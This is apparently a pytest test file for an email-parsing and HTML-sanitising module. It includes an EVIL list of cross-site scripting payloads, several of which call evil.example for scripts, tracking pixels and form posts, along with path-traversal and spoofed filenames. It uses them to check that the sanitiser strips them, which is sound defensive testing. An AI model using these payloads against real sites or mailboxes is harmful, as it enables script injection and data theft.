"""Mails as they are understood: what is in them, whatever they are made of."""

import time
import tracemalloc

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nexa_support.intake.charsets import decoded, header_text
from nexa_support.intake.html_text import safe_html, text_of_html
from nexa_support.intake.message import LONGEST_TEXT, ReceivedMail, read_mail

from .hostile_mails import NAMED, attached, generated, html, mail, nested, parts, typed

SECONDS = 2.0
BYTES_PER_BYTE = 12
BYTES_BESIDE = 60_000_000
HELP = b"Subject: Help"


def subject_of(words: bytes) -> str:
    return read_mail(mail().replace(HELP, b"Subject: " + words)).subject


def sender_of(value: bytes, headers: bytes = b"") -> tuple[str, str]:
    read = read_mail(mail(headers).replace(b"Eve <eve@evil.example>", value))
    return read.from_name, read.from_address


@pytest.mark.parametrize(
    ("charset", "content", "text"),
    [
        ("utf-8", "Größe".encode(), "Größe"),
        ("utf-8", b"\xef\xbb\xbfwith a mark", "with a mark"),
        ("UTF8", "Größe".encode(), "Größe"),
        ("iso-8859-1", "“smart” €".encode("cp1252"), "“smart” €"),
        ("us-ascii", "Größe".encode("cp1252"), "Größe"),
        ("gb2312", "喆".encode("gb18030"), "喆"),
        ("ks_c_5601-1987", "한국어".encode("cp949"), "한국어"),
        ("shift_jis", "出力①".encode("cp932"), "出力①"),
        ("koi8-r", "Экспорт".encode("koi8-r"), "Экспорт"),
        ("utf-16", "Größe".encode("utf-16"), "Größe"),
        ("utf-7", b"Gr+APYA3w-e", "Größe"),
        ("iso-8859-8-i", "שלום".encode("iso8859-8"), "שלום"),
        ('"utf-8"', "Größe".encode(), "Größe"),
    ],
)
def test_a_text_is_read_in_what_its_charset_means(charset: str, content: bytes, text: str) -> None:
    assert decoded(content, charset) == (text, None)


@pytest.mark.parametrize(
    "charset", ["utf-8", "klingon", "punycode", "unicode_escape", "hex", "rot13", "", "utf\0-8", None]
)
def test_a_charset_that_is_wrong_never_loses_a_text(charset: str | None) -> None:
    text, fault = decoded("Größe".encode("cp1252"), charset)
    assert text == "Größe"
    assert fault


def test_an_ascii_mail_that_is_utf_8_is_read_as_such_and_says_so() -> None:
    read = read_mail(typed(b"text/plain; charset=klingon", "Größe".encode()))
    assert (read.text, read.faults) == ("Größe", ("charset: not klingon",))


@pytest.mark.parametrize(
    ("words", "subject"),
    [
        (b"=?utf-8?B?R3LDtsOfZQ==?=", "Größe"),
        (b"Re: =?iso-8859-1?Q?Gr=F6=DFe?= now", "Re: Größe now"),
        (b"=?utf-8?Q?Gr=C3?=\r\n =?utf-8?Q?=B6=C3=9Fe?=", "Größe"),
        (b"=?utf-8?Q?Caf=C3=A9?= =?koi8-r?B?/MvT0A==?=", "CaféЭксп"),
        ("Größe".encode(), "Größe"),
        ("Größe".encode("cp1252"), "Größe"),
        ("Größe ".encode() + b"=?utf-8?Q?=C3=A9?=", "Größe é"),
        (b"=?utf-8?B?a?=", "=?utf-8?B?a?="),
        (b"=?nope?Q?Gr=C3=B6?=", "Grö"),
        (b"folded\r\n\t over lines", "folded over lines"),
        (b"=?utf-8?Q?one=0D=0ABcc:_x?=", "one Bcc: x"),
    ],
)
def test_a_subject_is_decoded_or_stands_as_it_came(words: bytes, subject: str) -> None:
    assert subject_of(words) == subject


def test_a_name_is_taken_apart_before_it_is_decoded() -> None:
    assert sender_of(b"=?utf-8?Q?Miller=2C_Sarah?= <Sarah@Acme.example>") == ("Miller, Sarah", "sarah@acme.example")
    assert sender_of(b"=?utf-8?Q?boss=40bank=2Eexample?= <eve@evil.example>") == (
        "boss@bank.example",
        "eve@evil.example",
    )
    assert sender_of("Jürgen <jürgen@acme.example>".encode()) == ("Jürgen", "jürgen@acme.example")


def test_an_answer_goes_where_the_mail_wants_it_and_every_sender_is_known() -> None:
    raw = mail(b"Reply-To: sarah@acme.example\r\n")
    read = read_mail(raw)
    assert (read.from_name, read.from_address) == ("Eve", "sarah@acme.example")
    assert read.senders == {"eve@evil.example", "sarah@acme.example"}


@pytest.mark.parametrize(
    "value", [b"", b"Eve", b"<a@b@c.example>", b"(" * 10_000, b"a" * 500 + b"@x.example", b"e\0@x.example"]
)
def test_what_is_no_address_is_nobody(value: bytes) -> None:
    assert sender_of(value)[1] == ""


def test_base64_and_quoted_printable_are_read_even_broken() -> None:
    assert read_mail(typed(b"text/plain", b"SXQgZmFpbHM=", b"base64")).text == "It fails"
    assert "It fails" in read_mail(typed(b"text/plain", b"SXQgZmFpbHM", b"base64")).text
    assert read_mail(typed(b"text/plain", b"It=20fails=ZZ=", b"quoted-printable")).text == "It fails=ZZ"
    assert (
        read_mail(typed(b"text/plain", b"It fails, not coded at all!", b"rot13")).text == "It fails, not coded at all!"
    )


def test_of_a_choice_the_plain_text_is_taken_and_html_beside_it_is_not_lost() -> None:
    plain, markup = b"Content-Type: text/plain\r\n\r\nplain", b"Content-Type: text/html\r\n\r\n<p>rich</p>"
    assert read_mail(parts(plain, markup, kind=b"alternative")).text == "plain"
    assert read_mail(parts(b"Content-Type: text/plain\r\n\r\n \r\n", markup, kind=b"alternative")).text == "rich"
    footer = b"Content-Type: text/plain\r\n\r\nThis mail was scanned"
    assert read_mail(parts(markup, footer)).text.split() == ["rich", "This", "mail", "was", "scanned"]


def test_nested_parts_give_their_text_and_files_in_order() -> None:
    text = b"Content-Type: text/plain\r\n\r\nIt fails"
    picture = b"Content-Type: image/png; name=shot.png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw=="
    calendar = b"Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR"
    inner = b"Content-Type: multipart/related; boundary=i\r\n\r\n--i\r\n%s\r\n--i\r\n%s\r\n--i--" % (text, picture)
    read = read_mail(parts(inner, calendar))
    assert read.text == "It fails"
    assert [(file.filename, file.media_type) for file in read.files] == [
        ("shot.png", "image/png"),
        ("part-3.bin", "text/calendar"),
    ]
    assert read.files[0].content == b"\x89PNG"
    assert read_mail(nested(40)).text == "At the bottom"


def test_a_mail_in_a_mail_is_a_file_as_it_stands() -> None:
    inner = b"From: x@y.example\r\nSubject: inner\r\n\r\ninner text"
    read = read_mail(
        parts(b"Content-Type: text/plain\r\n\r\nsee below", b"Content-Type: message/rfc822\r\n\r\n" + inner)
    )
    assert (read.subject, read.text) == ("Help", "see below")
    assert [(file.filename, file.media_type) for file in read.files] == [("part-2.eml", "message/rfc822")]
    assert b"inner text" in read.files[0].content
    assert b"Subject: inner" in read.files[0].content


@pytest.mark.parametrize(
    ("given", "name"),
    [
        (b'"report.pdf"', "report.pdf"),
        (b'"../../etc/passwd"', "_.._etc_passwd"),
        (b'"C:\\\\temp\\\\a.txt"', "C:_temp_a.txt"),
        (b'"=?utf-8?Q?Gr=C3=B6=C3=9Fe.pdf?="', "Größe.pdf"),
        ('"invoice\u202efdp.exe"'.encode(), "invoicefdp.exe"),
        (b'"a\0b.pdf"', "ab.pdf"),
        (b"y" * 500 + b".pdf", "y" * 196 + ".pdf"),
    ],
)
def test_a_filename_is_safe_and_says_what_it_is(given: bytes, name: str) -> None:
    assert [file.filename for file in read_mail(attached(given)).files] == [name]


def test_a_filename_in_pieces_and_in_its_own_charset_is_put_together() -> None:
    assert [
        file.filename for file in read_mail(attached(b"utf-8''Gr%C3%B6%C3%9Fe.pdf", parameter=b"filename*")).files
    ] == ["Größe.pdf"]
    pieces = attached(b"'a'; filename*1*=%C3%9F.pdf", parameter=b"filename*0*=utf-8''Gr%C3%B6; x")
    assert [file.filename for file in read_mail(pieces).files] == ["Größ.pdf"]


EVIL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif?who=me" width=1 height=1>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<p onclick="alert(1)" style="background:url(https://evil.example/p)">text</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<object data="https://evil.example/x.swf"></object>',
    '<video src="https://evil.example/v"></video>',
    '<body background="https://evil.example/p">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
]
ACTIVE = (
    *(
        "<script",
        "<img",
        "<iframe",
        "<form",
        "<input",
        "<style",
        "<link",
        "<base",
        "<meta",
        "<svg",
        "<math",
        "<object",
        "<video",
    ),
    *("onerror=", "onclick=", "onload=", "javascript:", "data:", "style=", "background=", "src=", "url("),
)


@pytest.mark.parametrize("markup", EVIL)
def test_nothing_that_acts_or_is_fetched_survives(markup: str) -> None:
    safe = safe_html(f"<p>before</p>{markup}<p>after</p>")
    tags = "".join("<" + piece.partition(">")[0] for piece in safe.split("<")[1:])
    assert [each for each in ACTIVE if each in tags.lower()] == []
    assert "before" in safe


def test_links_stay_and_tell_nobody_where_they_were() -> None:
    assert safe_html('<a href="https://acme.example/x" onclick="x()">here</a>') == (
        '<a href="https://acme.example/x" rel="noopener noreferrer nofollow">here</a>'
    )


def test_markup_that_would_take_too_long_is_shown_as_its_text() -> None:
    assert safe_html("<div>" * 20_000 + "deep <b>down</b> &lt;script&gt;") == "<pre>deep down &lt;script&gt;</pre>"


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<ul><li>x</li><li>y</li></ul>", "x\n\ny"),
        ("<tr><td>a</td><td>b</td></tr>", "a  b"),
        ("Fish &amp; chips &lt;3&nbsp;&#8364;", "Fish & chips <3 €"),
        ("1 < 2 and <3", "1 < 2 and <3"),
        ("<!-- hidden --><![if mso]>seen", "seen"),
        ("<head><title>no</title><style>p{}</style></head><body>yes", "yes"),
        ("<script>if (a<b) x()</script>after", "after"),
        ("<scripty>kept</scripty>", "kept"),
        ("never <!-- closed", "never <!-- closed"),
        ("<style>never closed, but read", "never closed, but read"),
        ("unfinished <b", "unfinished <b"),
        ("<PRE>a\n  b</PRE>", "a\n  b"),
    ],
)
def test_the_text_of_html_is_what_a_reader_sees(markup: str, text: str) -> None:
    assert text_of_html(markup) == text


@given(st.text(alphabet="<>!-/ps crit&;\"'=\n"))
def test_every_html_has_a_text_and_a_safe_form(markup: str) -> None:
    assert "<script" not in safe_html(markup).lower()
    text_of_html(markup)


def test_a_mail_of_html_alone_has_its_text() -> None:
    read = read_mail(html("<style>p{}</style><p>It <b>fails</b></p><script>x</script>"))
    assert read.text == "It fails"
    assert "<script>" in read.html


@pytest.mark.parametrize(
    ("headers", "why"),
    [
        (b"Auto-Submitted: auto-replied\r\n", "an automatic reply"),
        (b"Auto-Submitted: Auto-Generated; owner-email=x\r\n", "an automatic reply"),
        (b"Auto-Submitted: no\r\n", None),
        (b"Return-Path: <>\r\n", "a bounce"),
        (b"Precedence: bulk\r\n", "precedence bulk"),
        (b"Precedence: first-class\r\n", None),
        (b"X-Autoreply: yes\r\n", "an automatic reply"),
        (b"X-Failed-Recipients: a@b.example\r\n", "an automatic reply"),
        (b"List-Id: <news.acme.example>\r\n", "a mailing list"),
        (b"List-Unsubscribe: <mailto:x@y.example>\r\n", "a mailing list"),
        (b"Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n", "a report of a mail server"),
        (b"Content-Type: multipart/report; report-type=disposition-notification\r\n", "a report of a mail server"),
        (b"", None),
    ],
)
def test_what_a_program_wrote_is_known(headers: bytes, why: str | None) -> None:
    assert read_mail(mail(headers)).automatic == why


@pytest.mark.parametrize(
    ("subject", "sender", "why"),
    [
        (b"Automatic reply: Export", b"a@acme.example", "an automatic reply"),
        (b"=?utf-8?Q?R=C3=A9ponse_automatique_=3A?=", b"a@acme.example", "an automatic reply"),
        (b"Abwesenheitsnotiz: Urlaub", b"a@acme.example", "an automatic reply"),
        (b"Undelivered Mail Returned to Sender", b"a@acme.example", "an automatic reply"),
        (b"FW: Automatic reply: why do I get these?", b"a@acme.example", None),
        (b"Hello", b"MAILER-DAEMON@acme.example", "a mail server"),
        (b"Hello", b"postmaster@acme.example", "a mail server"),
    ],
)
def test_programs_are_known_by_what_they_write_and_who_they_are(subject: bytes, sender: bytes, why: str | None) -> None:
    raw = mail().replace(HELP, b"Subject: " + subject).replace(b"eve@evil.example", sender)
    assert read_mail(raw).automatic == why


def storable(read: ReceivedMail) -> None:
    """Every text of it goes into a text column and into JSON."""
    texts = [
        read.message_id or "",
        *read.references,
        read.from_name,
        read.from_address,
        *read.senders,
        *read.recipients,
    ]
    texts += [
        read.subject,
        read.text,
        *read.faults,
        *(each for file in read.files for each in (file.filename, file.media_type)),
    ]
    for text in texts:
        assert "\0" not in text
        orjson.dumps(text)
    assert len(read.text) <= LONGEST_TEXT
    assert len(read.message_id or "") <= 250
    assert len(read.from_address) <= 320


@pytest.mark.parametrize("name", NAMED)
def test_a_hostile_mail_is_read_in_bounded_time_and_memory(name: str) -> None:
    raw = NAMED[name]()
    began = time.process_time()
    read = read_mail(raw)
    safe_html(read.html)
    took = time.process_time() - began
    assert took < SECONDS, f"{took:.1f} s"
    storable(read)


@pytest.mark.parametrize("name", ["200,000 headers", "100,000 parts", "a million lines", "5,000 mails in each other"])
def test_a_hostile_mail_takes_memory_in_proportion_to_its_size(name: str) -> None:
    raw = NAMED[name]()
    tracemalloc.start()
    try:
        read_mail(raw)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < BYTES_PER_BYTE * len(raw) + BYTES_BESIDE


def test_five_hundred_generated_mails_are_read() -> None:
    for raw in generated(500):
        began = time.process_time()
        storable(read_mail(raw))
        assert time.process_time() - began < SECONDS


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_are_read(raw: bytes) -> None:
    storable(read_mail(raw))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            b"\r\n|\r\n\r\n|--b|--b--|boundary=b|Content-Type: |multipart/mixed; |message/rfc822|text/html"
            b'|From: |=?utf-8?B?|?=|;|:|\xff|\0|<|>|"|(|@|Content-Transfer-Encoding: base64|name*0*=|charset=utf-16'.split(
                b"|"
            )
        ),
        max_size=60,
    )
)
def test_any_pieces_of_mails_are_read(pieces: list[bytes]) -> None:
    storable(read_mail(b"".join(pieces)))


@given(st.text())
def test_any_header_is_read(value: str) -> None:
    header_text(value)
